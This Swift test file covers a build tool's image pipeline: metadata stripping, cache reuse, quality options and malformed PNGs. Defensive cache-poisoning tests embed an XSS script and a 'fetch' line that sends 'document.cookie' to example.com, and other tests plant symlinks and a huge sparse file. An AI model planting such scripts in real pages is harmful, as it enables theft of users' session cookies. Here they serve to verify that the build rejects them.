import Foundation
import Testing

@testable import AppDefModel
@testable import Generation
@testable import Linting
@testable import OnboardingKit

/// What the build publishes of raster images: smaller variants without metadata, the same
/// bytes from the same input, made once and then taken from the cache.
@Suite(.timeLimit(.minutes(10)))
struct ImagePublishingTests {
    /// A 120×60 JPEG taken "on its side" (EXIF orientation 6), with a GPS position and a camera
    /// maker ("PhoneMaker") in its EXIF.
    static let phonePhoto = ToolRunner.packageRoot.appendingPathComponent("Tests/ImageProcessingTests/Fixtures/gps-rotated.jpg")

    /// A project of two screens, one image each, in a new folder, with its own image cache.
    final class Project {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("sab-images-\(UUID().uuidString)")
        var appDef: URL { folder.appendingPathComponent("app.appDef") }
        var images: URL { folder.appendingPathComponent("images/onboarding") }
        var cache: URL { folder.appendingPathComponent("cache") }

        init(images named: [String: URL]) throws {
            try FileManager.default.createDirectory(at: images, withIntermediateDirectories: true)
            for (name, source) in named { try FileManager.default.copyItem(at: source, to: images.appendingPathComponent(name)) }
            let screens = named.keys.sorted().map { name in
                "<onboarding-screen><onboarding-screen-image lang=\"default\"><image>\(name)</image></onboarding-screen-image></onboarding-screen>"
            }
            try Data(
                """
                <?xml version="1.0" encoding="utf-8"?>
                <app-definition type="SAB"><translation-mappings default-lang="en"/><onboarding-screens>
                \(screens.joined(separator: "\n"))
                </onboarding-screens></app-definition>
                """.utf8
            ).write(to: appDef)
        }

        /// Builds into `out` (inside the folder) with the cache `cache` (inside the folder),
        /// sealed with the cache key `key` (64 hex digits).
        func build(into out: String, cache: String = "cache", key: String = ImagePublishingTests.cacheKeyText, _ options: [String] = []) throws
            -> ToolRunner.Result
        {
            try ToolRunner.run(
                ["build", appDef.path, "--out", folder.appendingPathComponent(out).path] + options,
                environment: ["XDG_CACHE_HOME": folder.appendingPathComponent(cache).path, CacheSeal.keyVariable: key])
        }

        /// Every file of an output, by path, with its bytes; the build's record aside.
        func files(of out: String) throws -> [String: Data] {
            let root = folder.appendingPathComponent(out)
            var files: [String: Data] = [:]
            for case let path as String in FileManager.default.enumerator(atPath: root.path)! {
                let url = root.appendingPathComponent(path)
                var isFolder: ObjCBool = false
                guard FileManager.default.fileExists(atPath: url.path, isDirectory: &isFolder), !isFolder.boolValue,
                    !path.hasPrefix(".")
                else { continue }
                files[path] = try Data(contentsOf: url)
            }
            return files
        }

        deinit { try? FileManager.default.removeItem(at: folder) }
    }

    /// The variants the manifest lists for the first screen's image.
    static func variants(in files: [String: Data]) throws -> [[String: Any]] {
        let manifestBytes = try #require(files["onboarding.json"])
        let manifest = try #require(JSONSerialization.jsonObject(with: manifestBytes) as? [String: Any])
        let screens = try #require(manifest["screens"] as? [[String: Any]])
        let image = try #require((screens[0]["image"] as? [String: Any])?["default"] as? [String: Any])
        return try #require(image["variants"] as? [[String: Any]])
    }

    static let samples = ToolRunner.packageRoot.appendingPathComponent("Samples/builders/images/onboarding")

    @Test func noPublishedFileCarriesTheAuthorsMetadataAndTheImageIsUpright() throws {
        let project = try Project(images: ["photo.jpg": Self.phonePhoto])
        let build = try project.build(into: "out")
        #expect(build.status == 0, "\(build.standardError)")
        let files = try project.files(of: "out")
        let images = files.filter { $0.key.hasPrefix("images/") }
        #expect(images.count == 2, "\(images.keys.sorted())")  // 60 wide: one WebP, one JPEG
        for (path, bytes) in files {
            for marker in ["PhoneMaker", "Exif", "GPS"] {
                #expect(bytes.range(of: Data(marker.utf8)) == nil, "\(path) holds '\(marker)'")
            }
        }
        let manifest = try #require(JSONSerialization.jsonObject(with: files["onboarding.json"]!) as? [String: Any])
        let screens = try #require(manifest["screens"] as? [[String: Any]])
        let image = try #require((screens[0]["image"] as? [String: Any])?["default"] as? [String: Any])
        #expect(image["width"] as? Int == 60 && image["height"] as? Int == 120, "\(image)")
        let variants = try #require(image["variants"] as? [[String: Any]])
        #expect(variants.map { $0["type"] as? String } == ["image/webp", "image/jpeg"])
    }

    @Test func theSameInputGivesTheSameBytesWithOrWithoutTheCache() throws {
        let project = try Project(images: [
            "house.png": Self.samples.appendingPathComponent("HouseOnTheRock.png"), "rain.jpg": Self.samples.appendingPathComponent("RainAndFloods.jpg"),
        ])
        #expect(try project.build(into: "first").status == 0)
        #expect(try project.build(into: "second", cache: "other-cache").status == 0)
        #expect(try project.build(into: "third").status == 0)  // from the first one's cache
        let first = try project.files(of: "first")
        #expect(first.keys.filter { $0.hasSuffix(".webp") }.count == 4)
        #expect(try project.files(of: "second") == first)
        #expect(try project.files(of: "third") == first)
    }

    @Test func aRebuildEncodesOnlyTheImagesItHasNotMadeBefore() throws {
        let project = try Project(images: ["house.png": Self.samples.appendingPathComponent("HouseOnTheRock.png")])
        let first = try project.build(into: "out")
        #expect(first.standardOutput.hasSuffix("(images: 1 encoded, 0 reused from the cache)\n"), "\(first.standardOutput)")
        let added = try Project(images: [
            "house.png": Self.samples.appendingPathComponent("HouseOnTheRock.png"), "rain.jpg": Self.samples.appendingPathComponent("RainAndFloods.jpg"),
        ])
        try FileManager.default.removeItem(at: added.folder)
        try FileManager.default.copyItem(at: project.folder, to: added.folder)
        try FileManager.default.copyItem(at: Self.samples.appendingPathComponent("RainAndFloods.jpg"), to: added.images.appendingPathComponent("rain.jpg"))
        let text = try String(contentsOf: added.appDef, encoding: .utf8).replacingOccurrences(
            of: "</onboarding-screens>",
            with:
                "<onboarding-screen><onboarding-screen-image lang=\"default\"><image>rain.jpg</image></onboarding-screen-image></onboarding-screen></onboarding-screens>"
        )
        try Data(text.utf8).write(to: added.appDef)
        let second = try added.build(into: "out")
        #expect(second.standardOutput.hasSuffix("(images: 1 encoded, 1 reused from the cache)\n"), "\(second.standardOutput)")
        // A quality of its own is another setting: both are made again.
        let third = try added.build(into: "out", ["--image-quality", "40"])
        #expect(third.standardOutput.hasSuffix("(images: 2 encoded, 0 reused from the cache)\n"), "\(third.standardOutput)")
    }

    /// The cache is a folder anyone with the user's rights can write: an entry that is not what
    /// the build makes (a page with a script, listed as an image) is made again, never published.
    @Test func aCacheEntryThatIsNotAnImageOfItsSizeIsMadeAgain() throws {
        let project = try Project(images: ["house.png": Self.samples.appendingPathComponent("HouseOnTheRock.png")])
        #expect(try project.build(into: "first").status == 0)
        let cacheFolder = project.cache.appendingPathComponent("sab-onboarding/images")
        let names = try FileManager.default.contentsOfDirectory(atPath: cacheFolder.path).filter { $0.hasSuffix(".variants") }
        try #require(names.count == 1, "\(names)")
        let script = Data("<script>alert(document.cookie)</script>".utf8)
        let fallback = try Data(contentsOf: Self.samples.appendingPathComponent("HouseOnTheRock.png"))
        // As many entries as the build makes for a 480-pixel source (384 and 480, and the fallback).
        let lines = "image/html 384 512 \(script.count)\nimage/webp 480 640 \(script.count)\nimage/png 480 640 \(fallback.count)\n"
        let poisoned = Data("sab-onboarding image variants 1\n\(lines)\n".utf8) + script + script + fallback
        try Self.sealed(poisoned, name: names[0]).write(to: cacheFolder.appendingPathComponent(names[0]))
        let second = try project.build(into: "second")
        #expect(second.status == 0, "\(second.standardError)")
        #expect(second.standardOutput.hasSuffix("(images: 1 encoded, 0 reused from the cache)\n"), "\(second.standardOutput)")
        #expect(try project.files(of: "second") == project.files(of: "first"))
    }

    /// The cache key the builds are given, as the environment gives it and as bytes.
    static let cacheKeyText = String(repeating: "5a", count: 32)
    static let cacheKey = [UInt8](repeating: 0x5a, count: 32)

    /// `contents` sealed, as a build with ``cacheKey`` seals the cache file `name`.
    static func sealed(_ contents: Data, name: String) -> Data {
        Data(CacheSeal.sealed([UInt8](contents), name: name, key: cacheKey))
    }

    /// A variants file's entries: type, width, height and bytes.
    static func entries(of sealedFile: Data, name: String) throws -> [(type: String, width: Int, height: Int, bytes: Data)] {
        let file = Data(try #require(CacheSeal.opened([UInt8](sealedFile), name: name, key: cacheKey)))
        let blank = try #require(file.firstRange(of: Data("\n\n".utf8)))
        let lines = String(decoding: file[..<blank.lowerBound], as: UTF8.self).split(separator: "\n").dropFirst()
        var offset = blank.upperBound
        return lines.map { line in
            let fields = line.split(separator: " ")
            let length = Int(fields[3])!
            defer { offset += length }
            return (String(fields[0]), Int(fields[1])!, Int(fields[2])!, file[offset..<offset + length])
        }
    }

    static func variantsFile(_ entries: [(type: String, width: Int, height: Int, bytes: Data)]) -> Data {
        let lines = entries.map { "\($0.type) \($0.width) \($0.height) \($0.bytes.count)\n" }.joined()
        return Data("sab-onboarding image variants 1\n\(lines)\n".utf8) + entries.reduce(Data()) { $0 + $1.bytes }
    }

    /// Another picture of the same type and size as a cached variant, with an EXIF chunk
    /// holding a GPS position and an HTML page after its end: it must not be published. The
    /// build made it again, and says why the cached copy was not used.
    @Test func aCachedPictureWithGPSOrAnHTMLTailIsMadeAgainWithANote() throws {
        // 480×640, half-transparent blue: its fallback is a PNG.
        func picture(_ rgba: [UInt8]) -> Data {
            PNGChunks.image(width: 480, height: 640, colorType: 6) { _ in Data((0..<480).flatMap { _ in rgba }) }
        }
        let source = FileManager.default.temporaryDirectory.appendingPathComponent("sab-translucent-\(UUID().uuidString).png")
        try picture([0, 0, 255, 128]).write(to: source)
        defer { try? FileManager.default.removeItem(at: source) }
        let project = try Project(images: ["house.png": source])
        #expect(try project.build(into: "first").status == 0)
        let cacheFolder = project.cache.appendingPathComponent("sab-onboarding/images")
        let names = try FileManager.default.contentsOfDirectory(atPath: cacheFolder.path).filter { $0.hasSuffix(".variants") }
        try #require(names.count == 1, "\(names)")
        let cacheFile = cacheFolder.appendingPathComponent(names[0])
        let cached = try Self.entries(of: try Data(contentsOf: cacheFile), name: names[0])
        let fallback = try #require(cached.last)
        #expect(fallback.type == "image/png")
        // Another picture of the fallback's size: green. An eXIf chunk after its header.
        #expect(fallback.width == 480 && fallback.height == 640)
        let green = picture([0, 200, 0, 255])
        let exif = PNGChunks.chunk("eXIf", Data("MM\0*GPSLatitude 51 30 N PhoneMaker".utf8))
        let withGPS = green.prefix(33) + exif + green.dropFirst(33)
        let page = Data("<html><script>fetch('https://example.com/?'+document.cookie)</script></html>".utf8)
        for (poisoned, reason) in [
            (withGPS + page, "has \(page.count) bytes after its end"), (withGPS, "holds a 'eXIf' chunk"),
            (green + page, "has \(page.count) bytes after its end"),
        ] {
            try Self.sealed(Self.variantsFile(Array(cached.dropLast()) + [(fallback.type, fallback.width, fallback.height, poisoned)]), name: names[0])
                .write(to: cacheFile)
            let again = try project.build(into: "again")
            #expect(again.status == 0, "\(again.standardError)")
            #expect(again.standardOutput.hasSuffix("(images: 1 encoded, 0 reused from the cache)\n"), "\(again.standardOutput)")
            #expect(
                again.standardError.contains(
                    "app.appDef:3:60: note: the cached sizes of 'house.png' were not used, and were made again: the 480-pixel PNG \(reason)"),
                "\(again.standardError)")
            #expect(again.standardError.contains("[image-cache-not-used]"))
            let files = try project.files(of: "again")
            #expect(files == (try project.files(of: "first")))
            for (path, bytes) in files {
                for marker in ["PhoneMaker", "GPSLatitude", "document.cookie"] { #expect(bytes.range(of: Data(marker.utf8)) == nil, "\(path) holds \(marker)") }
            }
            try FileManager.default.removeItem(at: project.folder.appendingPathComponent("again"))
        }
        // What the build wrote back is its own, and is used.
        let warm = try project.build(into: "warm")
        #expect(warm.standardOutput.hasSuffix("(images: 0 encoded, 1 reused from the cache)\n"), "\(warm.standardOutput)")
        #expect(!warm.standardError.contains("image-cache-not-used"), "\(warm.standardError)")
    }

    /// A cache written with another key (another user's, or a CI run's whose cache was restored
    /// without its secret) may hold whole, clean pictures that are not this source's: none is
    /// used, and the note says why.
    @Test func aCacheSealedWithAnotherKeyIsNotUsed() throws {
        let project = try Project(images: ["house.png": Self.samples.appendingPathComponent("HouseOnTheRock.png")])
        #expect(try project.build(into: "first", key: String(repeating: "0b", count: 32)).status == 0)
        let again = try project.build(into: "again")
        #expect(again.status == 0, "\(again.standardError)")
        #expect(again.standardOutput.hasSuffix("(images: 1 encoded, 0 reused from the cache)\n"), "\(again.standardOutput)")
        #expect(again.standardError.contains("not sealed with this user's cache key"), "\(again.standardError)")
        #expect(again.standardError.contains("[image-cache-not-used]"))
        let warm = try project.build(into: "warm")
        #expect(warm.standardOutput.hasSuffix("(images: 0 encoded, 1 reused from the cache)\n"), "\(warm.standardOutput)")
    }

    /// A key that is no key turns the caches off: the build says so, rather than making every
    /// image anew without a word.
    @Test(arguments: ["abcd", ""])
    func aCacheKeyThatIsNoKeyIsNamedInANote(_ key: String) throws {
        let project = try Project(images: ["house.png": Self.samples.appendingPathComponent("HouseOnTheRock.png")])
        let build = try project.build(into: "out", key: key)
        #expect(build.status == 0, "\(build.standardError)")
        #expect(
            build.standardError.contains("note: the image cache was not used, and every image was made: SAB_ONBOARDING_CACHE_KEY is not 64 hex digits"),
            "\(build.standardError)")
        #expect(try project.build(into: "again", key: key).standardOutput.hasSuffix("(images: 1 encoded, 0 reused from the cache)\n"))
    }

    /// A cache restored in CI may hold links: an `images` folder that links elsewhere is not
    /// written into, and what is there is not pruned.
    @Test func anImagesFolderThatIsALinkIsNeitherWrittenNorPruned() throws {
        let project = try Project(images: ["house.png": Self.samples.appendingPathComponent("HouseOnTheRock.png")])
        let elsewhere = project.folder.appendingPathComponent("elsewhere")
        try FileManager.default.createDirectory(at: elsewhere, withIntermediateDirectories: true)
        let old = elsewhere.appendingPathComponent("thesis.variants")
        try Data("the user's".utf8).write(to: old)
        try FileManager.default.setAttributes([.modificationDate: Date(timeIntervalSinceNow: -40 * 86_400)], ofItemAtPath: old.path)
        let cacheFolder = project.cache.appendingPathComponent("sab-onboarding")
        try FileManager.default.createDirectory(at: cacheFolder, withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(at: cacheFolder.appendingPathComponent("images"), withDestinationURL: elsewhere)
        let build = try project.build(into: "out")
        #expect(build.status == 0, "\(build.standardError)")
        #expect(try FileManager.default.contentsOfDirectory(atPath: elsewhere.path) == ["thesis.variants"])
    }

    /// The cache folder itself may be a link in a restored cache: nothing is written into the
    /// folder it leads to, and its old files, named as caches are, are not pruned.
    @Test func aCacheFolderThatIsALinkIsNeitherWrittenNorPruned() throws {
        let project = try Project(images: ["house.png": Self.samples.appendingPathComponent("HouseOnTheRock.png")])
        let elsewhere = project.folder.appendingPathComponent("elsewhere")
        try FileManager.default.createDirectory(at: elsewhere.appendingPathComponent("images"), withIntermediateDirectories: true)
        let old = ["thesis.cache", "images/thesis.variants"].map { elsewhere.appendingPathComponent($0) }
        for file in old {
            try Data("the user's".utf8).write(to: file)
            try FileManager.default.setAttributes([.modificationDate: Date(timeIntervalSinceNow: -40 * 86_400)], ofItemAtPath: file.path)
        }
        try FileManager.default.createDirectory(at: project.cache, withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(at: project.cache.appendingPathComponent("sab-onboarding"), withDestinationURL: elsewhere)
        let build = try project.build(into: "out")
        #expect(build.status == 0, "\(build.standardError)")
        #expect(try FileManager.default.contentsOfDirectory(atPath: elsewhere.path).sorted() == ["images", "thesis.cache"])
        #expect(try FileManager.default.contentsOfDirectory(atPath: elsewhere.appendingPathComponent("images").path) == ["thesis.variants"])
    }

    /// The record of an output folder is read only up to a size no build writes: a sparse file
    /// planted at its name, or under any name the pruning reads, claims 64 GB.
    @Test(arguments: [false, true])
    func aHugeOutputRecordIsNotRead(plantedElsewhere: Bool) throws {
        let project = try Project(images: ["house.png": Self.samples.appendingPathComponent("HouseOnTheRock.png")])
        #expect(try project.build(into: "out").status == 0)
        let cacheFolder = project.cache.appendingPathComponent("sab-onboarding")
        let records = try FileManager.default.contentsOfDirectory(atPath: cacheFolder.path).filter { $0.hasSuffix(".cache") }
        try #require(records.count == 1)
        let planted = cacheFolder.appendingPathComponent(plantedElsewhere ? "planted.cache" : records[0])
        if !FileManager.default.fileExists(atPath: planted.path) { try Data().write(to: planted) }
        let handle = try FileHandle(forWritingTo: planted)
        try handle.truncate(atOffset: UInt64(64) << 30)
        try handle.close()
        // The pruning reads every record once a day: made due.
        try? FileManager.default.removeItem(at: cacheFolder.appendingPathComponent("last-pruned"))
        // A full build (into another folder) prunes; an unchanged rebuild reads its own record.
        let again = try project.build(into: plantedElsewhere ? "other" : "out")
        #expect(again.status == 0, "\(again.standardError)")
    }

    @Test func aLowerQualityGivesSmallerFiles() throws {
        let project = try Project(images: ["rain.jpg": Self.samples.appendingPathComponent("RainAndFloods.jpg")])
        #expect(try project.build(into: "high", ["--image-quality", "95"]).status == 0)
        #expect(try project.build(into: "low", ["--image-quality", "20"]).status == 0)
        let size = { (out: String) in try project.files(of: out).filter { $0.key.hasPrefix("images/") }.values.map(\.count).reduce(0, +) }
        #expect(try size("low") < size("high") / 2)
    }

    @Test(arguments: ["0", "101", "high"])
    func aQualityOutsideOneToAHundredIsAUsageError(quality: String) throws {
        let project = try Project(images: [:])
        let build = try project.build(into: "out", ["--image-quality", quality])
        #expect(build.status == 64)
        #expect(build.standardError.contains("image-quality"), "\(build.standardError)")
        #expect(!FileManager.default.fileExists(atPath: project.folder.appendingPathComponent("out").path))
    }

    @Test func keepingOriginalsPublishesTheFilesAsTheyAre() throws {
        let project = try Project(images: ["photo.jpg": Self.phonePhoto])
        let build = try project.build(into: "out", ["--keep-original-images"])
        #expect(build.status == 0, "\(build.standardError)")
        let images = try project.files(of: "out").filter { $0.key.hasPrefix("images/") }
        #expect(Array(images.values) == [try Data(contentsOf: Self.phonePhoto)])
        #expect(build.standardOutput == "Built 1 screen into \(project.folder.appendingPathComponent("out").path)/index.html\n")
    }

    /// An animated PNG of two frames (red, then blue; the default image is the first): libvips
    /// reads its default image alone, so it is published as that still picture, made smaller
    /// and without its animation chunks, and the build warns. It was published as it was.
    @Test func anAnimatedPNGIsPublishedAsItsDefaultImageWithAWarning() throws {
        let (width, height) = (40, 30)
        func pixels(_ rgb: [UInt8]) -> Data {
            var raw = Data()
            for _ in 0..<height {
                raw.append(0)
                for _ in 0..<width { raw.append(contentsOf: rgb) }
            }
            return PNGChunks.zlibStored(raw)
        }
        func frameControl(_ sequence: UInt32) -> Data {
            var data = Data()
            for value in [sequence, UInt32(width), UInt32(height), 0, 0] { withUnsafeBytes(of: value.bigEndian) { data.append(contentsOf: $0) } }
            return data + Data([0, 10, 0, 100, 0, 0])
        }
        var header = Data()
        for value in [UInt32(width), UInt32(height)] { withUnsafeBytes(of: value.bigEndian) { header.append(contentsOf: $0) } }
        header.append(contentsOf: [8, 2, 0, 0, 0])
        var animated = Data([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]) + PNGChunks.chunk("IHDR", header)
        animated += PNGChunks.chunk("acTL", Data([0, 0, 0, 2, 0, 0, 0, 0])) + PNGChunks.chunk("fcTL", frameControl(0))
        animated += PNGChunks.chunk("IDAT", pixels([255, 0, 0])) + PNGChunks.chunk("fcTL", frameControl(1))
        animated += PNGChunks.chunk("fdAT", Data([0, 0, 0, 2]) + pixels([0, 0, 255])) + PNGChunks.chunk("IEND", Data())
        let source = FileManager.default.temporaryDirectory.appendingPathComponent("sab-animated-\(UUID().uuidString).png")
        try animated.write(to: source)
        defer { try? FileManager.default.removeItem(at: source) }
        let project = try Project(images: ["moving.png": source])
        let build = try project.build(into: "out")
        #expect(build.status == 0, "\(build.standardError)")
        #expect(build.standardError.contains("warning: 'moving.png' is an animated PNG: it is published as its still default image"), "\(build.standardError)")
        #expect(build.standardError.contains("[animated-png]"))
        let images = try project.files(of: "out").filter { $0.key.hasPrefix("images/") }
        #expect(images.keys.map { String($0.split(separator: ".").last!) }.sorted() == ["jpg", "webp"], "\(images.keys.sorted())")
        for (path, bytes) in images {
            #expect(bytes != animated)
            for chunk in ["acTL", "fcTL", "fdAT"] { #expect(bytes.range(of: Data(chunk.utf8)) == nil, "\(path) holds \(chunk)") }
        }
    }

    /// A PNG whose header libvips reads but whose pixel data is not zlib data: lint decodes it
    /// as the build does, and the build, which lints first, says so at the image's place in the
    /// appDef.
    @Test func anImageWhosePixelsCannotBeDecodedStopsTheBuildAtItsPlace() throws {
        let png = PNGChunks.file(header: Data([0, 0, 0, 40, 0, 0, 0, 30, 8, 2, 0, 0, 0]), data: [Data(repeating: 0x55, count: 200)])
        let broken = FileManager.default.temporaryDirectory.appendingPathComponent("sab-broken-\(UUID().uuidString).png")
        try png.write(to: broken)
        defer { try? FileManager.default.removeItem(at: broken) }
        let project = try Project(images: ["broken.png": broken])
        let build = try project.build(into: "out")
        #expect(build.status == 1)
        #expect(build.standardError.contains("app.appDef:3:60: error: "), "\(build.standardError)")
        #expect(build.standardError.contains("'broken.png' cannot be read by libvips"), "\(build.standardError)")
        #expect(build.standardError.contains("[image-not-decodable]"), "\(build.standardError)")
        #expect(!FileManager.default.fileExists(atPath: project.folder.appendingPathComponent("out").path))
    }
}
